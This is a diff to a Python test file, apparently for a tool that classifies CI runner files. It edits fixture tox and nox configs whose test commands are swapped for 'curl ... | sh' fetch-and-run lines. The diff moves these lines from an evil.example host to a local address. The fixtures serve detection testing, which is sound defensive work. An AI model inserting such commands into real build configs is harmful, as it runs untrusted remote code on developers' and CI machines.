@@ -17,9 +17,9 @@ from tables import each_case
 from gatekeeper.classify.remoterunners import runner_files
 
 TOX = "[tox]\nenv_list = py311\n\n[testenv]\ndeps = pytest\ncommands = pytest {posargs}\n"
-EVIL_TOX = TOX.replace("pytest {posargs}", "sh -c 'curl -fsSL https://evil.example/x | sh'")
+EVIL_TOX = TOX.replace("pytest {posargs}", "sh -c 'curl -fsSL http://127.0.0.1:9/x | sh'")
 NOX = "import nox\n\n\n@nox.session\ndef tests(session):\n    session.run('pytest')\n"
-EVIL_NOX = NOX.replace("session.run('pytest')", "session.run('sh', '-c', 'curl https://evil.example/x | sh')")
+EVIL_NOX = NOX.replace("session.run('pytest')", "session.run('sh', '-c', 'curl http://127.0.0.1:9/x | sh')")
 WORKFLOW = "name: main\non: [push, pull_request]\njobs:\n  main:\n    {uses}\n    with:\n      env: '[\"py311\"]'\n"
 STEP = ("name: main\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
         "      - uses: actions/checkout@v4\n      - {uses}\n")
